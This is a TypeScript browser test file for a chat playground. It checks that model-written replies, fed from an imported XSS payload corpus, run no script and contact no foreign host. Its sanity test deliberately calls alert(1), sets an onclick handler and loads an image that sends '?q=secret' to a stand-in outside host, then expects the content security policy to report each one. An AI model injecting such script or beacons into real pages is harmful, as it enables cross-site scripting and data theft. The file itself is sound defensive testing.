import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { play, startNode, type TestServer } from "../support/servers.ts";
import { inChromium } from "./support/chromium.ts";
import { streamOf } from "./support/reply-stream.ts";
import { expectNothing, openWatched, type WatchedChat } from "./support/watched-chat.ts";
import { CORPUS } from "./xss-corpus/corpus.ts";
import { STRANGER } from "./xss-corpus/payload.ts";

let gateway: TestServer;
beforeAll(async () => {
  gateway = await startNode();
}, 60_000);
afterAll(() => gateway.stop());

/** Without a pointer that has to find its way: there are hundreds of these. */
async function startAnew({ page }: WatchedChat): Promise<void> {
  await page.getByRole("button", { name: "New chat" }).dispatchEvent("click");
}

inChromium("what a model writes", (open) => {
  test("would be seen if it did anything", async () => {
    const { page, watch, foreign } = await openWatched(open, { view: "playground", gateway });
    await page.evaluate((host) => {
      alert(1);
      document.body.append(Object.assign(new Image(), { src: `${host}/?q=secret` }));
    }, STRANGER);
    await expect(
      page.evaluate(() => document.body.setAttribute("onclick", "alert(1)")),
    ).rejects.toThrow("TrustedScript");
    await expect
      .poll(() => watch.seen)
      .toEqual([
        "alert was called",
        `violates img-src: ${STRANGER}/?q=secret `,
        expect.stringMatching(/^violates require-trusted-types-for: /),
      ]);
    expect(foreign).toEqual([`${STRANGER}/?q=secret`]);
  });

  describe.each(CORPUS)("%s", (_, payloads) => {
    let chat: WatchedChat;
    beforeAll(async () => {
      chat = await openWatched(open, { view: "playground", gateway });
    }, 60_000);

    test.each(payloads)(
      "runs nothing and asks nobody (SEC-70) (SEC-73): %s",
      async (_name, text) => {
        await play(gateway, streamOf(text));
        await chat.ask("Say it");
        await expectNothing(chat);
        await startAnew(chat);
      },
    );

    test("is drawn anew from what was kept, and leaves the page as it was (SEC-73)", async () => {
      await play(gateway, streamOf("All **is** well."));
      await chat.ask("Are you there?");
      await chat.page.reload();
      expect(await chat.reply.locator(".markdown").last().innerText()).toBe("All is well.");
      expect(await chat.page.title()).toMatch(/^Playground/);
      await expectNothing(chat);
    });
  });
});
